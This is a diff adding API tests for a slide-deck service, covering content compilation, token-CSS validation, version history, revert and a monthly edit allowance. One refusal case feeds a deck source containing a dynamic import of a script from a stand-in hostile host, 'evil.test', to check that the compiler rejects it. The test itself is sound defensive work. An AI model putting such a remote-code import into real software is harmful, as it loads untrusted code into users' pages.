@@ -1,0 +1,213 @@
+import { randomUUID } from "node:crypto";
+import { beforeAll, describe, expect, it } from "vitest";
+import { defaultTokensCss } from "@/lib/deck/vocabulary";
+import { allowances } from "@/lib/db/schema/usage";
+import type { Database } from "@/lib/db/client";
+import { call, createUser, type TestUser } from "../helpers/api";
+import { setUpTestDatabase } from "../helpers/database";
+import { createDeck, deckSource, setContent } from "../helpers/decks";
+
+let database: Database;
+let author: TestUser;
+
+beforeAll(async () => {
+  database = await setUpTestDatabase();
+  author = await createUser();
+});
+
+describe("PUT /decks/{id}/content", () => {
+  it("compiles the module and appends version 1, 2, … with outline, tokens and prompt", async () => {
+    const deck = await createDeck(author);
+    const first = await setContent(author, deck.id, { source: deckSource(["Intro", "Plan"]), prompt: "first draft" });
+    expect(first.status).toBe(200);
+    expect(first.body).toEqual({ id: expect.any(String), version: 1 });
+
+    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
+    expect(detail.body.versionCount).toBe(1);
+    expect(detail.body.latestVersion).toMatchObject({
+      version: 1,
+      format: "deck-tsx",
+      source: deckSource(["Intro", "Plan"]),
+      tokensCss: defaultTokensCss,
+      outline: ["Intro", "Plan"],
+      html: null,
+    });
+    expect(detail.body.latestVersion.compiledJs).toMatch(/from "@deckhand\/player"/);
+    expect(Date.parse(detail.body.updatedAt)).toBeGreaterThan(Date.parse(deck.updatedAt as string));
+
+    const second = await setContent(author, deck.id, { source: deckSource(["Only"]) });
+    expect(second.body.version).toBe(2);
+  });
+
+  it("keeps the latest tokens when none are sent, and replaces them when sent", async () => {
+    const deck = await createDeck(author);
+    const tokens = '@import url("https://fonts.example/inter.css");\n:root { --color-primary: #0a7; }';
+    await setContent(author, deck.id, { tokensCss: tokens });
+    await setContent(author, deck.id, { source: deckSource(["Two"]) });
+    const v2 = await call("GET", `/decks/${deck.id}/versions/2`, { key: author.key });
+    expect(v2.body.tokensCss).toBe(tokens);
+    await setContent(author, deck.id, { tokensCss: ":root { --color-primary: #f60; }" });
+    const v3 = await call("GET", `/decks/${deck.id}/versions/3`, { key: author.key });
+    expect(v3.body.tokensCss).toBe(":root { --color-primary: #f60; }");
+  });
+
+  it.each([
+    ["a syntax error", deckSource(["A"]).replace("</Deck>", "</Dek>")],
+    ["an import outside the vocabulary", `import React from "react";\n${deckSource()}`],
+    ["an unknown component", deckSource(["A"]).replace("Deck, Slide, Title", "Deck, Slide, Title, Marquee")],
+    ["no default export", deckSource().replace("export default function", "function")],
+    ["a dynamic import", deckSource(["A"], 'const later = () => import("https://evil.test/x.js");')],
+  ])("refuses %s with 422 compile_failed and saves nothing", async (_, source) => {
+    const deck = await createDeck(author);
+    await setContent(author, deck.id);
+    const res = await setContent(author, deck.id, { source });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe("compile_failed");
+    expect(res.body.error.message.length).toBeGreaterThan(10);
+    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
+    expect(detail.body.versionCount).toBe(1);
+  });
+
+  it.each([
+    ["a rule other than :root", "body { color: red; }"],
+    ["a normal property in :root", ":root { color: red; }"],
+    ["unparseable CSS", ":root { --a: 1"],
+  ])("refuses tokensCss with %s", async (_, tokensCss) => {
+    const deck = await createDeck(author);
+    const res = await setContent(author, deck.id, { tokensCss });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe("compile_failed");
+    expect((await call("GET", `/decks/${deck.id}/versions`, { key: author.key })).body).toEqual([]);
+  });
+
+  it.each([
+    ["an empty source", { source: "" }, /source/],
+    ["a missing source", { prompt: "hi" }, /source/],
+    ["a non-string source", { source: 12 }, /source/],
+    ["a 2001-character prompt", { source: deckSource(), prompt: "p".repeat(2001) }, /prompt/],
+    ["a source over 1 MB", { source: deckSource(["A"], `// ${"x".repeat(1024 * 1024)}`) }, /1 MB/],
+    ["tokensCss over 64 KB", { source: deckSource(), tokensCss: `:root { --a: ${"1".repeat(65 * 1024)}; }` }, /64 KB/],
+    ["an unknown field", { source: deckSource(), html: "<p>hi</p>" }, /unknown field/],
+  ])("refuses %s with 422 invalid_request", async (_, body, message) => {
+    const deck = await createDeck(author);
+    const res = await call("PUT", `/decks/${deck.id}/content`, { key: author.key, body });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe("invalid_request");
+    expect(res.body.error.message).toMatch(message);
+  });
+
+  it("accepts a 2000-character prompt", async () => {
+    const deck = await createDeck(author);
+    expect((await setContent(author, deck.id, { prompt: "p".repeat(2000) })).status).toBe(200);
+  });
+
+  it("refuses a body over 2 MB before parsing it", async () => {
+    const deck = await createDeck(author);
+    const res = await call("PUT", `/decks/${deck.id}/content`, { key: author.key, rawBody: "x".repeat(2 * 1024 * 1024 + 1) });
+    expect(res.status).toBe(422);
+    expect(res.body.error.code).toBe("payload_too_large");
+  });
+
+  it("answers 404 for a deck that does not exist", async () => {
+    expect((await setContent(author, randomUUID())).status).toBe(404);
+  });
+});
+
+describe("versions", () => {
+  it("lists summaries newest first and returns one version in full", async () => {
+    const deck = await createDeck(author);
+    await setContent(author, deck.id, { prompt: "one" });
+    await setContent(author, deck.id, { source: deckSource(["B"]) });
+    const list = await call("GET", `/decks/${deck.id}/versions`, { key: author.key });
+    expect(list.status).toBe(200);
+    expect(list.body).toEqual([
+      { id: expect.any(String), version: 2, prompt: null, createdAt: expect.any(String) },
+      { id: expect.any(String), version: 1, prompt: "one", createdAt: expect.any(String) },
+    ]);
+    const one = await call("GET", `/decks/${deck.id}/versions/1`, { key: author.key });
+    expect(one.body).toEqual({
+      id: list.body[1].id,
+      deckId: deck.id,
+      version: 1,
+      prompt: "one",
+      createdAt: list.body[1].createdAt,
+      format: "deck-tsx",
+      source: deckSource(),
+      tokensCss: defaultTokensCss,
+      compiledJs: expect.any(String),
+      outline: ["Intro"],
+      html: null,
+    });
+  });
+
+  it.each(["0", "-1", "abc", "1.5", "1e2", "99999999999"])("refuses version %s with 422", async (version) => {
+    const deck = await createDeck(author);
+    const res = await call("GET", `/decks/${deck.id}/versions/${version}`, { key: author.key });
+    expect(res.status).toBe(422);
+    const revert = await call("POST", `/decks/${deck.id}/versions/${version}/revert`, { key: author.key });
+    expect(revert.status).toBe(422);
+  });
+
+  it("answers 404 for a version the deck does not have", async () => {
+    const deck = await createDeck(author);
+    await setContent(author, deck.id);
+    const res = await call("GET", `/decks/${deck.id}/versions/2`, { key: author.key });
+    expect(res.status).toBe(404);
+    expect(res.body.error.message).toMatch(/newest is 1/);
+    expect((await call("POST", `/decks/${deck.id}/versions/7/revert`, { key: author.key })).status).toBe(404);
+  });
+
+  it("reverts by copying an old version forward and keeps the history", async () => {
+    const deck = await createDeck(author);
+    await setContent(author, deck.id, { source: deckSource(["Original"]), tokensCss: ":root { --a: 1; }" });
+    await setContent(author, deck.id, { source: deckSource(["Changed"]), tokensCss: ":root { --a: 2; }" });
+    const res = await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: author.key });
+    expect(res.status).toBe(200);
+    expect(res.body).toEqual({ id: expect.any(String), version: 3 });
+
+    const [v1, v2, v3] = await Promise.all(
+      [1, 2, 3].map(async (n) => (await call("GET", `/decks/${deck.id}/versions/${n}`, { key: author.key })).body),
+    );
+    for (const field of ["format", "source", "tokensCss", "compiledJs", "outline", "html"]) {
+      expect(v3[field]).toEqual(v1[field]);
+    }
+    expect(v2.outline).toEqual(["Changed"]);
+    expect(v3.prompt).toBe("Reverted to version 1");
+    const detail = await call("GET", `/decks/${deck.id}`, { key: author.key });
+    expect(detail.body.latestVersion.outline).toEqual(["Original"]);
+    expect(detail.body.versionCount).toBe(3);
+  });
+});
+
+describe("the version-edit allowance", () => {
+  it("answers 402 with featureId version_edits once the month's edits are used, writing nothing", async () => {
+    const user = await createUser();
+    await database.db.insert(allowances).values({ organizationId: user.organizationId, featureId: "version_edits", monthlyLimit: 3 });
+    const deck = await createDeck(user);
+    for (let i = 0; i < 2; i++) expect((await setContent(user, deck.id)).status).toBe(200);
+    // A refused module consumes nothing.
+    expect((await setContent(user, deck.id, { source: "export default 1 +" })).status).toBe(422);
+    expect((await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: user.key })).status).toBe(200);
+
+    const refused = await setContent(user, deck.id);
+    expect(refused.status).toBe(402);
+    expect(refused.body.error).toMatchObject({ code: "allowance_exhausted", featureId: "version_edits" });
+    expect(refused.body.error.message).toMatch(/3 version edits/);
+    const revert = await call("POST", `/decks/${deck.id}/versions/1/revert`, { key: user.key });
+    expect(revert.status).toBe(402);
+    expect((await call("GET", `/decks/${deck.id}`, { key: user.key })).body.versionCount).toBe(3);
+  });
+
+  it("takes its default from VERSION_EDIT_ALLOWANCE", async () => {
+    const user = await createUser();
+    const deck = await createDeck(user);
+    process.env.VERSION_EDIT_ALLOWANCE = "1";
+    try {
+      expect((await setContent(user, deck.id)).status).toBe(200);
+      expect((await setContent(user, deck.id)).status).toBe(402);
+    } finally {
+      delete process.env.VERSION_EDIT_ALLOWANCE;
+    }
+    expect((await setContent(user, deck.id)).status).toBe(200);
+  });
+});
